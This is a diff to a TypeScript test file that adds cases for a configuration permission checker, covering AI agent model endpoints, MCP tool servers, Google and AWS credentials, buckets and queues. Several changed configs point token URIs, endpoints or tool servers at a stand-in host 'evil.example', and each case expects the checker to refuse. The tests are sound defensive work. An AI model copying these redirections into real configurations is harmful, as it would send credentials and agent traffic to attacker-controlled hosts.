@@ -6,8 +6,52 @@ const jwt = (url: string): string =>
 /** An action on a file that nobody answers, so that only a refusal fails it. */
 const sftp = (fields: string): string => `- { name: A, sftp: { ${fields}, user: u, password: a|env::ONE|, accept_any_host_key: true } }`;
 
+/** Keys of AWS, and a service that speaks as AWS does. */
+const awsKeys = (host = "objects.example"): string =>
+  `global:\n  aws_credentials:\n    main: { region: eu-central-1, access_key_id: a|env::ONE|, secret_access_key: a|env::TWO|, endpoint: "http://${host}" }\n`;
+const aws = (operation: string): string => `- { name: A, aws: { ${operation} } }`;
+
+/** An account whose key is none, so that only a refusal fails it. */
+const google = (fields: string): string =>
+  `global: { google_credentials: { push: { client_email: a@b.example, private_key: a|env::ONE|${fields} } } }\n`;
+
+const token = "- name: A\n  google: { create_token: { scopes: [one] } }";
+
+/** An agent that begins, whose answer nobody looks at. */
+const agent = (fields: string): string => `- { name: A, agent: { prompt: hi, ${fields} } }`;
+
 /** Doors of calls by HTTP, of files on other machines, and of what is discovered. */
 export const calls: readonly Door[] = [
+  {
+    name: "the service of a model",
+    of: ["agent"],
+    reviewed: agent('model: { api: openai, name: m, url: "http://api.example/v1" }'),
+    changed: agent('model: { api: openai, name: m, url: "http://evil.example/v1" }'),
+    refused: "host 'evil.example' is not listed for interface 'a'",
+  },
+  {
+    name: "the company behind another protocol",
+    of: ["agent"],
+    reviewed: agent('model: { api: openai, name: m, url: "http://api.example/v1" }'),
+    changed: agent("model: { api: anthropic, name: m }"),
+    refused: "host 'api.anthropic.com' is not listed for interface 'a'",
+  },
+  {
+    name: "a server of tools",
+    of: ["agent"],
+    reviewed: agent('model: { api: openai, name: m, url: "http://api.example/v1" }'),
+    changed: agent(
+      'model: { api: openai, name: m, url: "http://api.example/v1" }, tools: [{ mcp: { url: "https://evil.example/mcp" }, allow: [a] }]',
+    ),
+    refused: "host 'evil.example' is not listed for interface 'a'",
+  },
+  {
+    name: "the conversation of an agent",
+    of: ["agent", "state"],
+    reviewed: agent('model: { api: openai, name: m, url: "http://api.example/v1" }, memory: { key: chat }'),
+    changed: agent('model: { api: openai, name: m, url: "http://api.example/v1" }, memory: { key: other }'),
+    refused: "key of the state 'other' (get) of 'shop' is not listed for interface 'a'",
+  },
   {
     name: "a host",
     of: ["http", "hosts"],
@@ -128,6 +172,48 @@ export const calls: readonly Door[] = [
     refused: "host 'cluster.example' is not listed for interface 'a'",
   },
   {
+    name: "where tokens of an account are given",
+    of: ["google"],
+    global: google(""),
+    changedGlobal: google(', token_uri: "https://evil.example/token"'),
+    reviewed: token,
+    changed: token,
+    refused: "host 'evil.example' is not listed for interface 'a'",
+  },
+  {
+    name: "a key file",
+    of: ["google", "files"],
+    global: google(""),
+    changedGlobal: google(", file: /etc/keys/other.json"),
+    reviewed: token,
+    changed: token,
+    refused: "file '/etc/keys/other.json' is not listed for interface 'a'",
+  },
+  {
+    name: "an address in the place of a service of Google",
+    of: ["google"],
+    global: google(', token_uri: "http://localhost:9/token"'),
+    reviewed: "- name: A\n  google: { list_objects: { bucket: one } }",
+    changed: '- name: A\n  google: { list_objects: { bucket: one }, endpoint: "https://evil.example" }',
+    refused: "host 'evil.example' is not listed for interface 'a'",
+  },
+  {
+    name: "another object of a bucket",
+    of: ["google", "files"],
+    global: google(""),
+    reviewed: "- name: A\n  google: { get_signed_upload_url: { bucket: one, key: a } }",
+    changed: "- name: A\n  google: { get_signed_upload_url: { bucket: one, key: b } }",
+    refused: "file 'b' (get_signed_upload_url) of 'one' is not listed for interface 'a'",
+  },
+  {
+    name: "another bucket",
+    of: ["google", "files"],
+    global: google(""),
+    reviewed: "- name: A\n  google: { list_objects: { bucket: one, prefix: a/ } }",
+    changed: "- name: A\n  google: { list_objects: { bucket: two, prefix: a/ } }",
+    refused: "file 'a/*' (list_objects) of 'two' is not listed for interface 'a'",
+  },
+  {
     name: "a server of files",
     of: ["sftp"],
     reviewed: sftp("host: files.test, operation: get, path: /a"),
@@ -161,5 +247,47 @@ export const calls: readonly Door[] = [
     reviewed: sftp("host: files.test, operation: rename, path: /a, to: /b"),
     changed: sftp("host: files.test, operation: rename, path: /a, to: /c"),
     refused: "file '/c' (rename) of 'files.test' is not listed for interface 'a'",
+  },
+  {
+    name: "an object",
+    of: ["aws"],
+    global: awsKeys(),
+    reviewed: aws("delete_object: { bucket: shop, key: 'in/a|body::name|' }"),
+    changed: aws("delete_object: { bucket: shop, key: 'out/a|body::name|' }"),
+    body: '{"name":"a"}',
+    refused: "file 'out/a' (delete) of 's3://shop' is not listed for interface 'a'",
+  },
+  {
+    name: "another operation on an object",
+    of: ["aws"],
+    global: awsKeys(),
+    reviewed: aws("delete_object: { bucket: shop, key: a }"),
+    changed: aws("get_signed_upload_url: { bucket: shop, key: a }"),
+    refused: "file 'a' (put) of 's3://shop' is not listed for interface 'a'",
+  },
+  {
+    name: "a bucket",
+    of: ["aws"],
+    global: awsKeys(),
+    reviewed: aws("delete_object: { bucket: shop, key: a }"),
+    changed: aws("delete_object: { bucket: evil, key: a }"),
+    refused: "file 'a' (delete) of 's3://evil' is not listed for interface 'a'",
+  },
+  {
+    name: "a service that speaks as AWS does",
+    of: ["aws"],
+    global: awsKeys(),
+    changedGlobal: awsKeys("evil.example"),
+    reviewed: aws("delete_object: { bucket: shop, key: a }"),
+    changed: aws("delete_object: { bucket: shop, key: a }"),
+    refused: "host 'evil.example' is not listed for interface 'a'",
+  },
+  {
+    name: "a queue",
+    of: ["aws"],
+    global: awsKeys(),
+    reviewed: aws("delete_object: { bucket: shop, key: a }"),
+    changed: aws('send_message: { queue_url: "https://sqs.example/1/evil", body: x }'),
+    refused: "topic 'https://sqs.example/1/evil' is not listed for interface 'a'",
   },
 ];
